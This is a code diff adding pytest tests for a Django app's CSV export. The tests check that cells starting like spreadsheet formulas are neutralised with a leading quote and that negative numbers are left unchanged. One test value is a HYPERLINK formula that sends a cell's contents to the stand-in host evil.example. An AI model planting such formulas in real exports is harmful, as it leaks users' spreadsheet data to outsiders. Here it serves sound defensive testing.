@@ -94,3 +94,34 @@ def test_export_asks_an_anonymous_visitor_to_sign_in(client, locations):
     response = client.get(reverse("core:export-csv", args=["locations"]))
     assert response.status_code == 302
     assert reverse("accounts:login") in response["Location"]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "note",
+    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"],
+)
+def test_csv_export_neutralises_cells_that_start_like_a_formula(client_as, records, note):
+    from cadre.missions.models import Participation
+
+    participation = records.create(Participation, note=note)
+
+    response = client_as(Role.ADVISOR).get(
+        reverse("core:export-csv", args=["participations"]), {"nation": participation.nation.code}
+    )
+
+    rows = csv_rows(response)
+    note_at = rows[0].index("note")
+    assert [row[note_at] for row in rows[1:]] == ["'" + note]
+
+
+@pytest.mark.django_db
+def test_csv_export_leaves_negative_numbers_alone(client_as, records):
+    from cadre.missions.models import Location
+
+    location = records.create(Location, latitude=-33.5, longitude=151.2)
+
+    rows = csv_rows(client_as(Role.ADVISOR).get(reverse("core:export-csv", args=["locations"])))
+
+    row = next(r for r in rows[1:] if int(r[0]) == location.pk)
+    assert row[rows[0].index("latitude")].startswith("-33.5")
